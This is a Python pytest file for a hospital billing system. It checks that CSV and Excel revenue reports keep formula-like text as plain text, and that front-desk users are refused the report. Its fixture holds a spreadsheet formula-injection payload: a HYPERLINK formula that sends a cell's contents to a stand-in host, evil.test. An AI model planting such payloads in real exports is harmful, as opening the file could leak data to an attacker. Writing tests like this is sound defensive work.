"""A report as a spreadsheet (issue 18, item 4): the revenue report fetched from /rest/v1 with
`Accept: text/csv`, as an admin's browser downloads it, and as an Excel workbook from the
sidecar, opens with the typed text that looks like a formula (an insurer named
`=HYPERLINK(...)`) as text, never as a formula; the front desk gets no report. Runs on the demo
hospital; the invoice it makes is removed afterwards."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Iterator
from xml.etree import ElementTree

import httpx
import psycopg
import pytest

from devstack.config import Settings
from devstack.gateway.tokens import issue
from devstack.local_server import LocalServer
from devstack.postgrest_session import PostgrestSession
from sidecar.app import create_app
from sidecar.settings import SidecarSettings

HOSPITAL = "10000000-0000-4000-8000-000000000001"
PATIENT = "60000000-0000-4000-8000-000000000001"
ADMIN = "admin@nabha.carebase.test"
FRONT_DESK = "frontdesk@nabha.carebase.test"
SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
INSURER = '=HYPERLINK("http://evil.test/?leak="&A1,"Star Health")'


@pytest.fixture
def formula_invoice(stack: Settings) -> Iterator[str]:
    with psycopg.connect(stack.dsn()) as conn:
        session = PostgrestSession(conn)
        session.become(session.claims_for(ADMIN), "POST", "/rest/v1/rpc/issue_invoice")
        (invoice,) = conn.execute(
            "insert into public.invoices (hospital_id, patient_id, insurer_name)"
            " values (%s, %s, %s) returning id",
            (HOSPITAL, PATIENT, INSURER),
        ).fetchone()
        conn.execute(
            "insert into public.invoice_lines (invoice_id, description, hsn_sac, unit_price)"
            " values (%s, '+1+1 dressing', '999312', 250)",
            (invoice,),
        )
        (day,) = conn.execute(
            "select private.hospital_day(hospital_id, issued_at)::text"
            " from public.issue_invoice(%s)",
            (invoice,),
        ).fetchone()
    yield day
    with psycopg.connect(stack.dsn(stack.admin_user), autocommit=True) as conn:
        conn.execute("set session_replication_role = replica")
        conn.execute("delete from public.status_history where subject_id = %s", (invoice,))
        conn.execute("delete from public.invoice_lines where invoice_id = %s", (invoice,))
        conn.execute("delete from public.invoices where id = %s", (invoice,))


def test_the_revenue_report_as_csv_keeps_formulas_as_text(
    stack: Settings, gateway: str, formula_invoice: str
) -> None:
    with psycopg.connect(stack.dsn()) as conn:
        token = issue(PostgrestSession(conn).claims_for(ADMIN), stack.jwt_secret)
    headers = {"apikey": stack.anon_key, "Authorization": f"Bearer {token}", "Accept": "text/csv"}
    rows = {}
    for group_by in ("insurer", "service"):
        response = httpx.get(
            f"{gateway}/rest/v1/rpc/report_revenue",
            params={
                "hospital_id": HOSPITAL,
                "start_date": formula_invoice,
                "end_date": formula_invoice,
                "group_by": group_by,
            },
            headers=headers,
            timeout=30,
        )
        assert response.status_code == 200, response.text
        assert response.headers["content-type"].startswith("text/csv")
        rows[group_by] = list(csv.DictReader(io.StringIO(response.text)))
    insurers = {row["label"]: row for row in rows["insurer"]}
    assert "'" + INSURER in insurers, insurers.keys()
    assert insurers["'" + INSURER]["billed"] == "250.00"
    assert not any(row["label"][:1] in "=+-@" for table in rows.values() for row in table)
    assert "'+1+1 dressing" in {row["key"] for row in rows["service"]}


def test_the_revenue_report_as_excel_keeps_formulas_as_text(
    stack: Settings, gateway: str, formula_invoice: str
) -> None:
    with psycopg.connect(stack.dsn()) as conn:
        admin = issue(PostgrestSession(conn).claims_for(ADMIN), stack.jwt_secret)
        desk = issue(PostgrestSession(conn).claims_for(FRONT_DESK), stack.jwt_secret)
    params = {
        "hospital_id": HOSPITAL,
        "start_date": formula_invoice,
        "end_date": formula_invoice,
        "group_by": "insurer",
    }
    with LocalServer(create_app(SidecarSettings(supabase_url=stack.api_url)), "on") as server:
        url = f"{server.url}/api/v1/reports/revenue/xlsx"
        answer = httpx.get(url, params=params, headers={"Authorization": f"Bearer {admin}"})
        refused = httpx.get(url, params=params, headers={"Authorization": f"Bearer {desk}"})
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith("application/vnd.openxmlformats")
    with zipfile.ZipFile(io.BytesIO(answer.content)) as book:
        assert {"[Content_Types].xml", "xl/workbook.xml", "xl/worksheets/sheet1.xml"} <= set(
            book.namelist()
        )
        sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))  # noqa: S314 (ours)
    cells = sheet.iter(f"{SHEET}c")
    texts = {"".join(c.itertext()): c.get("t") for c in cells}
    assert texts["'" + INSURER] == "inlineStr", "text, never a formula"
    assert not list(sheet.iter(f"{SHEET}f"))
    assert (refused.status_code, refused.json()["code"]) == (403, "not_report_reader")
